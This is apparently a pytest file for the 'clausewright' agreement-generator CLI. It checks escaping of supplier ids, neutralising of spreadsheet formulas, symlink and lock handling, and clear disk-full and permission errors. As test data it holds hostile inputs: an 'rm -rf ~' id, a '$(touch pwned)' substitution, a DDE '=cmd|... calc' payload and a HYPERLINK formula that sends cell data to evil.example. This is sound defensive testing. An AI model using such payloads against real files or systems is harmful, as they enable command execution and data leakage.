"""Records that stay whole, and operating-system errors that are not bugs.

- a supplier id is one line of text; what goes into the answers files' comments and printed
  commands is quoted, and a name beginning with ``-`` is never read as an option;
- no cell of a CSV or XLSX clausewright writes runs as a formula;
- a run writes its records (manifest, errors.csv, warnings.csv) only inside ``--out``, never
  through a link;
- one run at a time in an output folder, and a killed run never blocks ``--resume``;
- the manifest keeps every line whole or absent when the disk fills at any byte;
- a full disk, a read-only folder, permission denied or a name too long is one clear message
  with exit code 74 for every command that writes, never "internal error".

Disk full and read-only are produced for real: a small tmpfs when the tests run as root (skipped
otherwise), and the file size limit (RLIMIT_FSIZE), which any user can set, for failures at an
exact byte. Permission denied is a folder without write permission (as root, in a process without
the capability that ignores permissions).
"""

from __future__ import annotations

import csv
import json
import os
import shlex
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from bulk_helpers import GOOD, HEADER, MINI_OPTIONS, bulk, docx_names, errors, manifest, many_rows, write_csv, write_defaults
from click.testing import CliRunner
from conftest import MINI, SAMPLES
from test_wizard import FRESH

from clausewright.cli.main import cli
from clausewright.inputs.deal import read_deal_file

pytestmark = pytest.mark.timeout(300)
POSIX = pytest.mark.skipif(sys.platform == "win32", reason="links, signals, file size limits and mounts are POSIX")
EXIT_OS = 74
LOCK = ".clausewright.lock"


def _row(ident: str, country: str = "vietnam") -> list[str]:
    return [ident, f"Supplier {len(ident)} Ltd", "1 Road", country, "Lim", "Part", "", ""]


def _run(folder: Path, out: Path, *extra: str):
    return bulk("run", str(folder / "suppliers.csv"), "--defaults", str(folder / "defaults.yaml"), "--out", str(out), "--jobs", "1", *extra)


def _command(folder: Path, out: Path, *extra: str) -> list[str]:
    return [sys.executable, "-m", "clausewright", "bulk", "run", str(folder / "suppliers.csv"), "--defaults", str(folder / "defaults.yaml"),
            "--out", str(out), "--no-progress", *MINI_OPTIONS, *extra]


def _lines_whole(path: Path) -> list[dict]:
    """Every line of a manifest is a complete JSON record ending in a line break."""
    data = path.read_bytes()
    assert data == b"" or data.endswith(b"\n"), data[-80:]
    return [json.loads(text) for text in data.decode("utf-8").splitlines()]


# --- 9, 12: supplier ids, comments and printed commands ---------------------------------------------


def test_a_supplier_id_is_one_line_of_text(tmp_path):
    write_defaults(tmp_path)
    write_csv(tmp_path / "suppliers.csv", [_row("S-1\nrm -rf ~"), _row("S-2\x1b[31mred"), _row("S-3\x00"), _row("S-4")])
    result = _run(tmp_path, tmp_path / "out")
    assert result.exit_code == 1, result.output
    problems = {int(e["row"]): e for e in errors(tmp_path / "out")}
    assert sorted(problems) == [2, 3, 4]
    assert all(e["field"] == "supplier_id" for e in problems.values())
    assert "line break" in problems[2]["message"] and "control character (U+001B)" in problems[3]["message"]
    assert "\x1b" not in result.output and "\\x1b[31mred" in result.output  # shown, not obeyed by the terminal
    assert docx_names(tmp_path / "out") == ["S-4-supplier-3-ltd.docx"]
    assert [e["status"] for e in manifest(tmp_path / "out")] == ["failed", "failed", "failed", "written"]


@POSIX
def test_answers_files_quote_the_supplier_id_and_their_command_regenerates_the_document(tmp_path, monkeypatch):
    ids = ["-rf", "--force", "S-2 # x\u2028y: z", "=cmd|' /C calc'!A0", "a'b \"c\" $(touch pwned)"]
    write_defaults(tmp_path)
    write_csv(tmp_path / "suppliers.csv", [_row(ident) for ident in ids])
    out = tmp_path / "out"
    result = bulk("run", str(tmp_path / "suppliers.csv"), "--defaults", str(tmp_path / "defaults.yaml"), "--out", str(out), "--jobs", "1", "--name", "{supplier_id}")
    assert result.exit_code == 0, result.output
    monkeypatch.chdir(out)
    for entry in manifest(out):
        answers = out / entry["answers"]
        text = answers.read_text(encoding="utf-8")
        head = text.splitlines()[:3]
        assert all(line.startswith("# ") for line in head), head  # the id cannot break out of the comment
        quoted = json.dumps(entry["supplier_id"], ensure_ascii=False).replace("\u2028", "\\u2028")  # a YAML line break, escaped
        assert f"(supplier_id {quoted})" in head[0]
        read_deal_file(answers)  # still a readable deal file
        command = shlex.split(head[2].removeprefix("#   "))
        assert command[:2] == ["clausewright", "generate"] and command[2] == ("./" if entry["answers"].startswith("-") else "") + entry["answers"]
        made = (out / entry["output"]).read_bytes()
        (out / entry["output"]).unlink()
        regenerated = CliRunner().invoke(cli, command[1:])  # exactly as printed, in the output folder
        assert regenerated.exit_code == 0, (command, regenerated.output)
        assert (out / entry["output"]).read_bytes() == made
    assert not (out / "pwned").exists() and not Path("pwned").exists()


# --- 10: spreadsheet cells ----------------------------------------------------------------------------


@pytest.mark.parametrize("value, shown", [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
    ("-12.50", "-12.50"), ("+44", "+44"), ("S-001", "S-001"), ("a=b", "a=b"), ("", ""), (7, 7),
])
def test_spreadsheet_cells_that_would_run_as_formulas_are_marked_as_text(value, shown):
    from clausewright.quoting import cell

    assert cell(value) == shown


def test_errors_csv_never_holds_a_formula(tmp_path):
    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0"]
    write_defaults(tmp_path)
    write_csv(tmp_path / "suppliers.csv", [_row(ident, country="=1+2") for ident in hostile] + [_row("S-OK")])
    result = _run(tmp_path, tmp_path / "out")
    assert result.exit_code == 1, result.output
    rows = errors(tmp_path / "out")
    assert [r["supplier"] for r in rows] == ["'" + ident for ident in hostile]
    for r in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in r.values()), r


def test_warnings_csv_never_holds_a_formula(tmp_path):
    # the bundled Thai supplier (its agreement carries a stamp-duty warning), under a formula-like id
    with (SAMPLES / "bulk" / "suppliers.csv").open(encoding="utf-8-sig", newline="") as fh:
        thai = next(r for r in csv.DictReader(fh) if r["supplier.country"] == "thailand")
    suppliers = tmp_path / "s.csv"
    with suppliers.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(thai))
        writer.writeheader()
        writer.writerow({**thai, "supplier_id": "=1+1"})
    ran = CliRunner().invoke(cli, ["bulk", "run", str(suppliers), "--defaults", str(SAMPLES / "bulk" / "defaults.yaml"), "--no-progress", "--out", str(tmp_path / "out")])
    assert ran.exit_code == 0, ran.output
    with (tmp_path / "out" / "warnings.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and {r["supplier_id"] for r in rows} == {"'=1+1"}
    assert json.loads((tmp_path / "out" / "manifest.jsonl").read_text(encoding="utf-8").splitlines()[0])["supplier_id"] == "=1+1"  # the record keeps it as given


def test_the_xlsx_template_stores_formula_like_text_as_text(tmp_path):
    from openpyxl import load_workbook

    library = tmp_path / "library"
    shutil.copytree(MINI / "library", library)
    params = library / "parameters" / "main.yaml"
    evil = '=HYPERLINK("http://evil.example","click")'
    params.write_text(params.read_text(encoding="utf-8").replace(
        "{id: supplier.name, type: text, label: Supplier name}",
        "{id: supplier.name, type: text, label: '-Supplier name', help: '" + evil.replace("'", "''") + "', example: '+44 20'}",
    ), encoding="utf-8")
    target = tmp_path / "suppliers.xlsx"
    result = CliRunner().invoke(cli, ["bulk", "template", "-o", str(target), "--library", str(library), "--jurisdictions", str(MINI / "jurisdictions")])
    assert result.exit_code == 0, result.output
    book = load_workbook(target)
    cells = {c.value: c for row in book["help"].iter_rows() for c in row if isinstance(c.value, str)}
    for text in (evil, "-Supplier name", "+44 20"):
        assert cells[text].data_type == "s", text  # text, not a formula
        assert cells[text].quotePrefix, text  # and marked as text, as Excel marks a typed 'text
    assert not cells["supplier.name"].quotePrefix


# --- 11: records only inside --out ---------------------------------------------------------------------


@POSIX
@pytest.mark.parametrize("name", ["manifest.jsonl", "errors.csv", "warnings.csv", LOCK])
def test_a_link_planted_at_a_record_is_never_followed(tmp_path, name):
    write_defaults(tmp_path)
    write_csv(tmp_path / "suppliers.csv", GOOD[:2], header=HEADER)
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_bytes(b"not yours\n")
    out = tmp_path / "out"
    out.mkdir()
    os.symlink(elsewhere, out / name)
    result = _run(tmp_path, out)
    assert result.exit_code in (3, EXIT_OS), result.output
    assert "link" in result.output and name in result.output and "Traceback" not in result.output
    assert elsewhere.read_bytes() == b"not yours\n"
    assert docx_names(out) == [] and (out / name).is_symlink()


# --- 13: one run at a time -----------------------------------------------------------------------------


def _wait_for(predicate, seconds: float = 120) -> None:
    deadline = time.monotonic() + seconds
    while not predicate():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.01)


ROWS = 150  # enough for the first run to be still writing when the second starts


@POSIX
def test_a_second_run_into_the_same_out_is_refused_and_a_killed_run_does_not_block_resume(tmp_path):
    write_defaults(tmp_path)
    write_csv(tmp_path / "suppliers.csv", many_rows(ROWS))
    out = tmp_path / "out"
    first = subprocess.Popen(_command(tmp_path, out, "--jobs", "1"), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    _wait_for(lambda: first.poll() is not None or (out.is_dir() and len(docx_names(out)) >= 2))
    assert first.poll() is None, "the first run ended too soon"
    second = subprocess.run(_command(tmp_path, out, "--jobs", "1", "--resume"), capture_output=True, text=True, timeout=120)
    assert second.returncode == 3, second.stderr
    assert f"another bulk run (process {first.pid}) is writing to {out}" in second.stderr
    assert first.poll() is None  # the first run goes on, untroubled
    stdout, stderr = first.communicate(timeout=120)
    assert first.returncode == 0, stderr
    assert [e["status"] for e in _lines_whole(out / "manifest.jsonl")] == ["written"] * ROWS
    assert not (out / LOCK).exists()

    # killed outright, a run leaves its lock file behind, but not its lock
    shutil.rmtree(out)
    killed = subprocess.Popen(_command(tmp_path, out, "--jobs", "2"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    _wait_for(lambda: killed.poll() is not None or (out.is_dir() and len(docx_names(out)) >= 3))
    os.killpg(killed.pid, signal.SIGKILL)
    killed.wait()
    assert (out / LOCK).exists()
    resumed = subprocess.run(_command(tmp_path, out, "--jobs", "2", "--resume"), capture_output=True, text=True, timeout=120)
    assert resumed.returncode == 0, resumed.stderr
    assert len(docx_names(out)) == ROWS and not (out / LOCK).exists()


# --- 14: the manifest stays whole --------------------------------------------------------------------

_JOURNAL_SCRIPT = r"""
import json, os, resource, signal, sys
from pathlib import Path
from clausewright.bulk import manifest

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # past the limit, a write fails (EFBIG) instead of killing
base, start, stop, step = Path(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
hard = resource.getrlimit(resource.RLIMIT_FSIZE)[1]
results = []
for limit in range(start, stop, step):
    out = base / str(limit)
    out.mkdir()
    (out / manifest.MANIFEST).write_text('{"row": 1, "output": "earlier.docx"}\n{"row": 2, "outp', encoding="utf-8")  # the last line cut by a crash
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))
    error = None
    journal = manifest.Journal(out, list(range(2, 40)))
    try:
        for row in range(2, 40):
            journal.record(row, {"row": row, "supplier_id": f"S-{row}", "status": "written", "output": f"S-{row}-Công ty.docx", "note": "x" * (row * 7)})
    except Exception as exc:  # a FileAccessError naming the manifest
        error = str(exc)
    finally:
        journal.close(complete=False)
        resource.setrlimit(resource.RLIMIT_FSIZE, (hard, hard))
    results.append({"limit": limit, "error": error})
print(json.dumps(results))
"""


@POSIX
def test_the_manifest_keeps_every_line_whole_when_the_disk_fills_at_any_byte(tmp_path):
    """The file size limit fails a write at an exact byte, as a full disk does: wherever it falls,
    every line of the manifest is complete (or absent), and the error names the manifest."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(Path(__file__).parents[1] / "src"), os.environ.get("PYTHONPATH")]))}
    done = subprocess.run([sys.executable, "-c", _JOURNAL_SCRIPT, str(tmp_path), "40", "1400", "17"], capture_output=True, text=True, timeout=120, env=env)
    assert done.returncode == 0, done.stderr
    results = json.loads(done.stdout)
    assert len(results) == 80
    for result in results:
        out = tmp_path / str(result["limit"])
        lines = _lines_whole(out / "manifest.jsonl")
        assert lines[0] == {"row": 1, "output": "earlier.docx"}  # the line cut by a crash is gone, the one before it kept
        assert [e["row"] for e in lines[1:]] == list(range(2, 2 + len(lines) - 1))
        assert result["error"] and "manifest.jsonl" in result["error"] and "larger than this process may write" in result["error"]
        assert sorted(p.name for p in out.iterdir()) == ["manifest.jsonl"]  # no temporary file left


@pytest.fixture
def tmpfs(tmp_path):
    """Mount small tmpfs file systems (as root only): ``tmpfs(name, size, *options)``."""
    if sys.platform != "linux" or os.geteuid() != 0 or not shutil.which("mount"):
        pytest.skip("a real full or read-only disk needs root (to mount a tmpfs)")
    mounted: list[Path] = []

    def mount(name: str, size: str = "1m", *options: str) -> Path:
        path = tmp_path / name
        path.mkdir()
        done = subprocess.run(["mount", "-t", "tmpfs", "-o", ",".join([f"size={size}", *options]), "tmpfs", str(path)], capture_output=True, text=True)
        if done.returncode != 0:
            pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
        mounted.append(path)
        return path

    yield mount
    for path in reversed(mounted):
        subprocess.run(["umount", "-l", str(path)], capture_output=True)


def _fill(folder: Path) -> None:
    """Fill a file system to its last byte."""
    with open(folder / "filler", "wb", buffering=0) as fh:
        try:
            while True:
                fh.write(b"\0" * 4096)
        except OSError:
            pass


@POSIX
def test_a_disk_that_fills_mid_run_stops_it_clearly_and_resume_finishes(tmp_path, tmpfs):
    write_defaults(tmp_path)
    write_csv(tmp_path / "suppliers.csv", many_rows(30))
    reference = subprocess.run(_command(tmp_path, tmp_path / "reference", "--jobs", "2"), capture_output=True, text=True, timeout=120)
    assert reference.returncode == 0, reference.stderr
    disk = tmpfs("disk", "160k")
    out = disk / "out"
    full = subprocess.run(_command(tmp_path, out, "--jobs", "2"), capture_output=True, text=True, timeout=120)
    assert full.returncode == EXIT_OS, full.stderr
    assert "the disk is full" in full.stderr and str(out) in full.stderr and "--resume" in full.stderr and "document(s) written, each complete" in full.stderr
    assert "internal error" not in full.stderr and "Traceback" not in full.stderr
    lines = _lines_whole(out / "manifest.jsonl")
    assert {e["status"] for e in lines} - {"written", "failed", "not-run"} == set() and "written" in {e["status"] for e in lines}
    assert all((out / e["output"]).is_file() for e in lines if e["status"] == "written")
    assert [p.name for p in out.iterdir() if p.name.endswith(".tmp")] == []
    stems = {p.name.removesuffix(".docx") for p in out.glob("*.docx")}
    assert stems and stems <= {p.name.removesuffix(".answers.yaml") for p in out.glob("*.answers.yaml")}  # no document without its answers
    subprocess.run(["mount", "-o", "remount,size=4m", str(disk)], check=True)
    resumed = subprocess.run(_command(tmp_path, out, "--jobs", "2", "--resume"), capture_output=True, text=True, timeout=120)
    assert resumed.returncode == 0, resumed.stderr
    expected = {p.name: p.read_bytes() for p in (tmp_path / "reference").iterdir() if p.suffix in (".docx", ".yaml")}
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.suffix in (".docx", ".yaml")} == expected
    statuses = [e["status"] for e in _lines_whole(out / "manifest.jsonl")]
    assert len(statuses) == 30 and set(statuses) <= {"written", "unchanged"} and "unchanged" in statuses


# --- 15: operating-system errors, for every command that writes ----------------------------------------

def _writes(command: str, folder: Path, tmp_path: Path, name: str = "agreement") -> tuple[list[str], str | None]:
    """The command line that writes into ``folder``, and the input it reads."""
    if command == "generate":
        return ["generate", str(MINI / "deal.yaml"), "-o", str(folder / f"{name}.docx"), *MINI_OPTIONS], None
    if command == "bulk template":
        return ["bulk", "template", "-o", str(folder / f"{name}.xlsx"), *MINI_OPTIONS], None
    if command == "bulk run":
        write_defaults(tmp_path)
        write_csv(tmp_path / "suppliers.csv", GOOD[:2], header=HEADER)
        return ["bulk", "run", str(tmp_path / "suppliers.csv"), "--defaults", str(tmp_path / "defaults.yaml"), "--out", str(folder / name), "--no-progress", *MINI_OPTIONS], None
    return ["wizard", "-o", str(folder / f"{name}.docx"), *MINI_OPTIONS], "\n".join(FRESH) + "\n"


def _unprivileged() -> list[str]:
    """A prefix that runs a command without the root's power to ignore permissions."""
    if os.geteuid() != 0:
        return []
    if not shutil.which("setpriv"):
        pytest.skip("as root, permission denied needs setpriv")
    return ["setpriv", "--bounding-set", "-dac_override,-dac_read_search"]


COMMANDS = ["generate", "bulk template", "bulk run", "wizard"]


@POSIX
@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("condition, says", [
    ("full", "the disk is full"),
    ("read-only", "read-only file system"),
    ("denied", "permission denied"),
    ("too long", "the name or the path is too long"),
])
def test_an_operating_system_error_is_one_clear_message_with_its_exit_code(tmp_path, tmpfs, command, condition, says):
    prefix: list[str] = []
    name = "agreement"
    if condition == "full":
        folder = tmpfs("full", "64k")
        _fill(folder)
    elif condition == "read-only":
        folder = tmpfs("ro", "64k", "ro")
    elif condition == "denied":
        folder = tmp_path / "locked"
        folder.mkdir()
        folder.chmod(0o555)
        prefix = _unprivileged()
    else:
        folder = tmp_path
        name = "a" * 300
    args, stdin = _writes(command, folder, tmp_path, name)
    done = subprocess.run([*prefix, sys.executable, "-m", "clausewright", *args], input=stdin, capture_output=True, text=True, timeout=120)
    assert done.returncode == EXIT_OS, (done.returncode, done.stderr[-2000:])
    error = next(line for line in done.stderr.splitlines() if line.startswith("Error: "))
    assert says in error and str(folder) in error, error
    assert "internal error" not in done.stderr and "Traceback" not in done.stderr
    leftovers = [p.name for p in folder.rglob("*") if p.name.endswith(".tmp")] if os.access(folder, os.R_OK) else []
    assert leftovers == []


def test_a_file_open_in_another_program_on_windows_is_named_so():
    from clausewright.errors import FileAccessError

    error = PermissionError(13, "The process cannot access the file because it is being used by another process", "agreement.docx")
    error.winerror = 32  # what Windows reports when Word holds the file open
    message = str(FileAccessError(error))
    assert message.startswith("cannot write agreement.docx: the file is open in another program; close it")


def test_the_exit_codes_are_documented():
    readme = (Path(__file__).parents[1] / "README.md").read_text(encoding="utf-8")
    bulk_doc = (Path(__file__).parents[1] / "docs" / "bulk.md").read_text(encoding="utf-8")
    for code in ("| 0 |", "| 1 |", "| 2 |", "| 3 |", f"| {EXIT_OS} |", "| 70 |", "| 130 |"):
        assert code in readme and code in bulk_doc, code


